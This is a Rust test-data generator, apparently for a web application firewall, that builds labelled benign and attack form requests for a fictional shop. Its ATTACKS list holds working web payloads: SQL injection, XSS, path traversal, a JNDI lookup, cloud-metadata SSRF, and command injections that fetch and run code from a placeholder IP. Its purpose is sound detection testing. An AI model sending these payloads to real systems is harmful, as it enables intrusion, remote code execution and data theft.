//! A generated site: twelve forms, three of whose fields take rich text that looks like attacks, and
//! attacks in all fields. The same seed gives the same requests.

use waf_core::parse::head::RequestHead;

use crate::request::{Label, Request};

/// The forms and their fields. A `*` marks rich text.
const FORMS: [(&str, [&str; 5]); 12] = [
    ("/login", ["user", "password", "next", "device", "locale"]),
    ("/register", ["name", "email", "city", "phone", "company"]),
    ("/search", ["q", "sort", "category", "brand", "page"]),
    ("/cart", ["item", "quantity", "coupon", "gift", "size"]),
    ("/checkout", ["street", "town", "country", "carrier", "remark"]),
    ("/profile", ["nick", "birthday", "site", "signature", "avatar"]),
    ("/forum/reply", ["thread", "*body", "quote", "tags", "format"]),
    ("/docs/edit", ["page", "title", "*text", "summary", "version"]),
    ("/support/ticket", ["subject", "product", "*message", "order", "urgency"]),
    ("/jobs/apply", ["position", "motivation", "salary", "start", "source"]),
    ("/newsletter", ["address", "topic", "frequency", "first", "last"]),
    ("/survey", ["age", "rating", "reason", "again", "comment"]),
];

/// What ordinary fields hold.
const PLAIN: [&str; 12] = [
    "blue",
    "42",
    "Anna Weber",
    "anna@shop.example",
    "2026-11-23",
    "Berlin",
    "medium",
    "newest first",
    "shoes",
    "+49 30 1234567",
    "yes",
    "Gladly again",
];

/// What people write who write about programs.
const RICH: [&str; 24] = [
    "Please <b>read</b> the <a href=\"/docs/1\">manual</a> first",
    "<p>Second paragraph of my answer, with a <em>word</em></p>",
    "<ul><li>one</li><li>two</li></ul>",
    "The images are gone: <img src=\"/pictures/1.png\">",
    "My page has <div class=\"box\"> twice",
    "In lesson 3 we write SELECT name FROM users WHERE id = 5",
    "Then INSERT INTO orders VALUES (1, 'blue') and it works",
    "The report does SELECT COUNT(*) FROM visits GROUP BY day",
    "UPDATE users SET name = 'Anna' WHERE id = 7 takes ages",
    "It says DELETE FROM cart WHERE user = 'anna', is that right?",
    "Look at <h2>Results</h2> and at <table><tr><td>1</td></tr></table>",
    "She said 'yes' or 'no', I forgot which",
    "We've tried a and 'b' = 'b', it is the same",
    "<blockquote>Who wrote this?</blockquote> I did",
    "Use <code>git log</code>, then <code>git show</code>",
    "An <a href=\"https://shop.example/help\">answer</a> would help",
    "Call json_encode() on it before file_put_contents()",
    "The picture is in ../pictures/2.png, one folder up",
    "I ran cat notes.txt | grep todo and saw nothing",
    "Our settings are in /etc/nginx/nginx.conf",
    "The button has onclick=\"save()\" and does nothing",
    "It prints $(pwd) as it stands, and ${HOME} too",
    "It wants a java.lang.String there",
    "Write {{ customer.name }} where the name goes",
];

/// Attacks that fields are tried with.
const ATTACKS: [&str; 20] = [
    "' OR '1'='1' --",
    "1 UNION SELECT password FROM users--",
    "x' UNION ALL SELECT null,version()#",
    "1; DROP TABLE users--",
    "' AND SLEEP(5)--",
    "1 AND extractvalue(1,concat(0x7e,version()))",
    "<script>alert(document.cookie)</script>",
    "\"><svg/onload=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "javascript:alert(document.domain)",
    "<iframe src=javascript:alert(1)>",
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "php://filter/convert.base64-encode/resource=index.php",
    ";cat /etc/passwd",
    "$(curl http://203.0.113.9/x|sh)",
    "`wget http://203.0.113.9/x`",
    "{{7*7}}${7*7}<%= 7*7 %>",
    "${jndi:ldap://203.0.113.9/a}",
    "http://169.254.169.254/latest/meta-data/",
];

/// Numbers that a seed decides (splitmix64; Steele and others, 2014).
struct Numbers(u64);

impl Numbers {
    fn below(&mut self, bound: usize) -> usize {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut mixed = self.0;
        mixed = (mixed ^ (mixed >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        mixed = (mixed ^ (mixed >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        usize::try_from((mixed ^ (mixed >> 31)) % bound as u64).unwrap_or(0)
    }

    fn pick<'a>(&mut self, from: &[&'a str]) -> &'a str {
        from[self.below(from.len())]
    }
}

/// Requests of visitors.
pub fn benign(seed: u64, count: usize) -> Vec<Request> {
    let mut numbers = Numbers(seed);
    let request = |at| {
        let (path, fields) = FORMS[numbers.below(FORMS.len())];
        let value = |numbers: &mut Numbers, field: &str| match field.starts_with('*') {
            true => format!("{} {}", numbers.pick(&RICH), numbers.pick(&RICH)),
            false => numbers.pick(&PLAIN).to_owned(),
        };
        let values = fields.map(|field| value(&mut numbers, field));
        form(format!("visit-{at}"), Label::Benign, path, &fields, &values)
    };
    (0..count).map(request).collect()
}

/// Every attack in every field, beside what ordinary fields hold.
pub fn attacks(seed: u64) -> Vec<Request> {
    let mut numbers = Numbers(seed);
    let mut requests = Vec::new();
    for (path, fields) in FORMS {
        for (at, field) in fields.iter().enumerate() {
            for attack in ATTACKS {
                let mut values = fields.map(|_| numbers.pick(&PLAIN).to_owned());
                attack.clone_into(&mut values[at]);
                let id = format!("attack-{}{path}:{field}", requests.len());
                requests.push(form(id, Label::Attack, path, &fields, &values));
            }
        }
    }
    requests
}

fn form(id: String, label: Label, path: &str, fields: &[&str], values: &[String]) -> Request {
    let pair = |(field, value): (&&str, &String)| {
        format!("{}={}", field.trim_start_matches('*'), encoded(value))
    };
    let body = fields.iter().zip(values).map(pair).collect::<Vec<_>>().join("&");
    let headers = [
        ("Host", "shop.example".to_owned()),
        ("User-Agent", "Mozilla/5.0".to_owned()),
        ("Accept", "*/*".to_owned()),
        ("Content-Type", "application/x-www-form-urlencoded".to_owned()),
        ("Content-Length", body.len().to_string()),
    ];
    let headers = headers.map(|(name, value)| (name.into(), value.into())).to_vec();
    let head = RequestHead::from_parts("POST", path, "HTTP/1.1", headers);
    Request { id, label: Some(label), head, body: body.into_bytes(), ..Request::default() }
}

/// As browsers encode forms.
fn encoded(text: &str) -> String {
    let byte = |byte: u8| match byte {
        b' ' => "+".to_owned(),
        b'*' | b'-' | b'.' | b'_' => char::from(byte).to_string(),
        _ if byte.is_ascii_alphanumeric() => char::from(byte).to_string(),
        _ => format!("%{byte:02X}"),
    };
    text.bytes().map(byte).collect()
}
